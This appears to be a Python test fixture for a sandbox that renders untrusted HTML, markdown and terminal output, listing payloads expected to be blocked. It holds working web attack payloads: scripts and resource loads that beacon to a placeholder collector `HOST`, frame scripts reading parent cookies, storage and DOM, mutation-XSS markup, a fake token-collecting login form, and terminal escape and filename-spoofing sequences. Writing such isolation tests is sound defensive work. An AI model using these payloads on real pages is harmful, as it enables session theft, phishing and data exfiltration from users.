"""Outputs of guests that want the page, the login, the API or the viewer's network: HTML, each under a name.

Each reaches a collector at `HOST` under its name where it works. The same text in a bare page does reach it: the
positive control of `test_hostile.py`.
"""

from __future__ import annotations

# Loads that need no script.
LOADS = {
    "image": '<img src="HOST/image">',
    "srcset": '<img srcset="HOST/srcset 1x">',
    "style-import": '<style>@import url("HOST/style-import");</style>',
    "style-background": '<div style="width:9px;height:9px;background:url(HOST/style-background)">x</div>',
    "style-font": '<style>@font-face{font-family:f;src:url(HOST/style-font)}</style><p style="font-family:f">x</p>',
    "link-style": '<link rel="stylesheet" href="HOST/link-style">',
    "video": '<video src="HOST/video" autoplay preload="auto"></video>',
    "poster": '<video poster="HOST/poster"></video>',
    "object": '<object data="HOST/object"></object>',
    "embed": '<embed src="HOST/embed" type="text/html">',
    "frame": '<iframe src="HOST/frame"></iframe>',
    "svg-image": '<svg width="9" height="9"><image href="HOST/svg-image" width="9" height="9"/></svg>',
    "input-image": '<input type="image" src="HOST/input-image">',
    "base": '<base href="HOST/base/"><img src="x">',
    "widened": '<meta http-equiv="Content-Security-Policy" content="default-src *"><img src="HOST/widened">',
    "refresh": '<meta http-equiv="refresh" content="0; url=HOST/refresh">',
    "srcdoc": '<iframe srcdoc="<img src=HOST/srcdoc>"></iframe>',
}
# What a script does. `send(name)` of a test's own would need an origin: an image is the plainest way out.
SCRIPTS = {
    "script": "<script>new Image().src = 'HOST/script'</script>",
    "handler": "<img src='data:,' onerror=\"new Image().src = 'HOST/handler'\">",
    "svg-onload": "<svg onload=\"new Image().src = 'HOST/svg-onload'\"></svg>",
    "details": "<details open ontoggle=\"new Image().src = 'HOST/details'\"><summary>x</summary>y</details>",
    "eval": "<script>eval(\"new Image().src = 'HOST/eval'\")</script>",
    "fetch": "<script>fetch('HOST/fetch', {mode: 'no-cors'}).catch(() => 0)</script>",
    "beacon": "<script>navigator.sendBeacon('HOST/beacon', 'x')</script>",
    "worker": "<script>const code = \"fetch('HOST/worker', {mode: 'no-cors'})\";"
    "new Worker(URL.createObjectURL(new Blob([code])))</script>",
    "form": "<form action='HOST/form' id='f'></form><script>document.getElementById('f').submit()</script>",
    "location": "<script>location.href = 'HOST/location'</script>",
    "nested": "<iframe srcdoc=\"<script>new Image().src='HOST/nested'</script>\"></iframe>",
    "prefetch": "<script>const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = 'HOST/prefetch'; "
    "document.head.append(l)</script>",
}
# What a script of a frame tries with the page around it: each writes what it got into its own document.
REACHES = {
    "cookie": "parent.document.cookie",
    "storage": "localStorage.length",
    "parent": "parent.document.body.innerHTML",
    "top": "(top.location = 'about:blank', 'went')",
    "canary": "parent.canary",
    "opener": "(window.open('about:blank') === null ? (() => {throw new Error('no window')})() : 'opened')",
    "sandbox": "frameElement.removeAttribute('sandbox')",
}
STUN = (
    "<script>const peer = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:UDP'}]});"
    "peer.createDataChannel('x'); peer.createOffer().then((offer) => peer.setLocalDescription(offer));</script>"
)
# Markdown and streams, with `ran` in the page where one of them works.
MARKDOWN = """
<script>window.ran = 'md script'</script> <img src=x onerror="window.ran = 'md handler'">
[javascript](javascript:window.ran='md-link') [data](data:text/html,<script>1</script>) ![remote](HOST/md-image)
<a href="&#106;avascript:window.ran=1">entity</a> <svg><a xlink:href="javascript:window.ran=2"><text>x</text></a></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.ran=3&gt;">
<form action="HOST/md-form"><input name="token"><button>log in</button></form> <style>body{display:none}</style>
<img src="data:image/svg+xml;base64,PHN2Zy8+"> <div id="root" class="login over">a false login</div>
"""
STREAM = (
    "\\x1b]0;owned\\x07\\x1b]52;c;aGk=\\x07\\x1b]8;;HOST/osc\\x1b\\\\link\\x1b]8;;\\x1b\\\\ \\x1bP$q\\x1b\\\\ \\x1b[2J "
    "<img src=x onerror=window.ran=1> \\u202egnp.exe \\u2028 \\x00 \\x9b31m end-of-stream"
)
# Markup that is something else when it is written and read again, with `RAN` where it runs.
MUTATIONS = {
    "mglyph": "<math><mtext><table><mglyph><style><img src onerror=RAN></style></mglyph></table></mtext></math>",
    "forms": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=RAN>",
}
